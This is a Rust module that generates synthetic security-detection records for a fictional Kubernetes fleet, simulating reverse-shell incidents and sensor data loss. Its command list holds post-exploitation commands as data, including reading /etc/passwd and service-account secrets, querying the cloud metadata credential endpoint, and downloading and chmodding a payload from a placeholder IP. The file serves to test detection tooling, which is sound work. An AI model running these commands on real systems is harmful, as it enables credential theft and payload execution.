//! A made-up fleet: what happened on each of its nodes, in the order of time.
//!
//! Owns: how often what happens, and to whom. The same node of the same fleet is the same on every run, apart from the names
//! of observations. Must not own: the shape of a record (`incident`), files (`main`).

use std::collections::BTreeMap;

use serde_json::json;
use tetherd::model::detection::{Row, Severity, State};
use tetherd::model::finding::{CATEGORY_LOSS, Record};
use tetherd::model::ids::FindingId;

use crate::incident::{Command, Incident, Machine, Place, Program, SECOND, about};

/// Records of findings, in percent: many more than real nodes have, so that there is something to ask.
const FINDINGS: u64 = 75;
/// Commands of one incident, at most; its records are one for each, and one for its end.
const COMMANDS_MAX: u64 = 8;
const DAY: u64 = 86_400 * SECOND;

/// A fleet.
pub struct World {
    /// The end of what is made, in nanoseconds after 1970.
    pub now: u64,
    /// How far back it goes, in days.
    pub days: u64,
}

/// Numbers that look like chance (splitmix64).
pub struct Dice(pub u64);

impl Dice {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut mixed = self.0;
        mixed = (mixed ^ (mixed >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        mixed = (mixed ^ (mixed >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        mixed ^ (mixed >> 31)
    }

    /// Below `end`.
    fn below(&mut self, end: u64) -> u64 {
        self.next() % end.max(1)
    }

    /// Below `end`, the small ones much more often.
    fn skewed(&mut self, end: u64) -> u64 {
        let (one, two) = (self.below(end), self.below(end));
        one * two / end.max(1)
    }

    fn digits(&mut self) -> String {
        (0..4).map(|_| format!("{:016x}", self.next())).collect()
    }
}

const COMMANDS: [&[&str]; 12] = [
    &["/usr/bin/id"],
    &["/usr/bin/uname", "-a"],
    &["/usr/bin/cat", "/etc/passwd"],
    &["/usr/bin/ls", "-la", "/var/run/secrets/kubernetes.io/serviceaccount"],
    &["/usr/bin/curl", "-s", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"],
    &["/usr/bin/ps", "aux"],
    &["/usr/bin/env"],
    &["/usr/bin/wget", "-q", "-O", "/tmp/.x", "http://203.0.113.80/x"],
    &["/usr/bin/chmod", "+x", "/tmp/.x"],
    &["/usr/bin/nc", "-zv", "10.0.0.1", "22"],
    &["/usr/bin/find", "/", "-perm", "-4000", "-type", "f"],
    &["/usr/bin/crontab", "-l"],
];
const ROWS: [Row; 8] = [
    Row::WatchedBothWays,
    Row::ShellReadsSocket,
    Row::WatchedOutput,
    Row::RelayedShell,
    Row::RelayedByTool,
    Row::RelayedCommands,
    Row::OtherBothWays,
    Row::SecondOneWay,
];
const NAMESPACES: [&str; 16] = [
    "shop",
    "payments",
    "search",
    "mail",
    "ci",
    "default",
    "monitoring",
    "ingress",
    "auth",
    "ml",
    "video",
    "maps",
    "ads",
    "chat",
    "billing",
    "lab",
];

impl World {
    /// Node number `index`.
    pub fn machine(&self, index: u64) -> Machine {
        let mut dice = Dice(index ^ 0xb007);
        let boot = dice.digits();
        Machine {
            name: format!("node-{index:06}"),
            resource: format!("//k8s.local/clusters/prod-{:02}", index % 20),
            boot: format!(
                "{}-{}-{}-{}-{}",
                &boot[..8],
                &boot[8..12],
                &boot[12..16],
                &boot[16..20],
                &boot[20..32]
            ),
        }
    }

    /// About `count` records of node number `index`, oldest first, without numbers.
    pub fn records(&self, index: u64, count: u64) -> Vec<Record> {
        let machine = self.machine(index);
        let mut dice = Dice(index);
        // One node in a hundred has been silent for a day.
        let end = if index.is_multiple_of(100) { self.now - DAY } else { self.now };
        let mut timed: Vec<(u64, Record)> = Vec::new();
        while (timed.len() as u64) < count * FINDINGS / 100 {
            let incident = self.incident(index, end, &mut dice);
            let all = incident.commands.len();
            for shown in 1..=all {
                let at = incident.start + incident.commands[shown - 1].after;
                timed.push((at, incident.record(&machine, shown, State::Active)));
            }
            let end = incident.start + incident.commands[all - 1].after + SECOND;
            timed.push((end, incident.record(&machine, all, State::Inactive)));
        }
        let others = count.saturating_sub(timed.len() as u64);
        for beat in 0..others {
            let at = end - self.days * DAY / others * (others - 1 - beat);
            let mut losses = BTreeMap::new();
            let kind =
                ["vanished", "kernel_overflow", "search_cut", "suspect_vanished"][dice.below(4) as usize];
            losses.insert("Losses".to_owned(), json!({ kind: dice.below(40) + 1 }));
            timed.push((at, about(&machine, CATEGORY_LOSS, losses, at)));
        }
        timed.sort_by_key(|(at, _)| *at);
        timed.into_iter().map(|(_, record)| record).collect()
    }

    fn incident(&self, node: u64, end: u64, dice: &mut Dice) -> Incident {
        let start = end - DAY / 100 - dice.below(self.days * DAY - DAY / 50);
        let row = ROWS[dice.skewed(8) as usize];
        let public = dice.below(3) > 0;
        let peer = if public {
            let which = dice.skewed(20_000);
            format!("198.{}.{}.{}", 18 + which / 65_536, which / 256 % 256, which % 256)
        } else {
            let which = dice.below(100_000);
            format!("10.{}.{}.{}", which / 65_536, which / 256 % 256, which % 256)
        };
        let relayed = matches!(row, Row::RelayedShell | Row::RelayedByTool | Row::RelayedCommands);
        let commands = (0..=dice.below(COMMANDS_MAX)).map(|at| command(at, dice)).collect();
        let mut id = [0; 16];
        id[..8].copy_from_slice(&dice.next().to_le_bytes());
        id[8..].copy_from_slice(&dice.next().to_le_bytes());
        Incident {
            id: FindingId(id),
            start,
            row,
            severity: [Severity::Critical, Severity::High, Severity::Medium, Severity::Low]
                [dice.skewed(4) as usize],
            peer: (peer, [4444, 443, 8443, 9001, 53][dice.skewed(5) as usize]),
            local: (
                format!("10.{}.{}.{}", node / 65_536, node / 256 % 256, node % 256),
                30_000 + dice.below(30_000) as u16,
            ),
            scope: if public { "public" } else { "private" },
            direction: if dice.below(5) == 0 { "inbound" } else { "outbound" },
            relay: relayed.then_some(["nc", "socat", "openssl", "python3"][dice.below(4) as usize]),
            parent: "/usr/bin/python3.12".into(),
            user: [(0, "root"), (33, "www-data"), (1000, "app")][dice.below(3) as usize],
            place: (dice.below(5) > 0).then(|| place(node, dice)),
            commands,
            pid: 2_000 + dice.below(4_000_000) as u32,
        }
    }
}

fn command(at: u64, dice: &mut Dice) -> Command {
    let after = at * (SECOND + dice.below(20 * SECOND));
    if at == 0 {
        let path = ["/usr/bin/bash", "/usr/bin/dash", "/usr/bin/busybox", "/tmp/.cache/kworker"]
            [dice.skewed(4) as usize];
        let origin = if path.starts_with("/tmp") { "added" } else { "image" };
        let file = if origin == "added" { dice.skewed(3_000) } else { dice.skewed(12) };
        return Command {
            after,
            program: Program { path: path.into(), sha256: digest(path, file), origin },
            args: vec![path.into(), "-i".into()],
        };
    }
    let args = COMMANDS[dice.skewed(12) as usize];
    Command {
        after,
        program: Program { path: args[0].into(), sha256: digest(args[0], dice.skewed(12)), origin: "image" },
        args: args.iter().map(|arg| (*arg).to_owned()).collect(),
    }
}

/// A digest for the file number `which` of a path.
fn digest(path: &str, which: u64) -> String {
    let seed = path.bytes().fold(which, |sum, byte| sum.wrapping_mul(131).wrapping_add(u64::from(byte)));
    Dice(seed).digits()
}

fn place(node: u64, dice: &mut Dice) -> Place {
    let which = dice.skewed(400);
    let namespace = NAMESPACES[(which % 16) as usize];
    let image = format!("registry.example/{namespace}/service-{which:03}:1.{}.0", dice.skewed(9));
    let slot = dice.below(30);
    let mut own = Dice(node << 8 | slot);
    let uid = own.digits();
    Place {
        container_id: own.digits(),
        container: format!("service-{which:03}"),
        image_id: format!("{image}@sha256:{}", digest(&image, u64::from(dice.below(50) == 0))),
        image,
        namespace: namespace.into(),
        pod: format!("service-{which:03}-7c966b5d85-{:05x}", own.below(1 << 20)),
        pod_uid: format!("{}-{}-{}-{}-{}", &uid[..8], &uid[8..12], &uid[12..16], &uid[16..20], &uid[20..32]),
    }
}
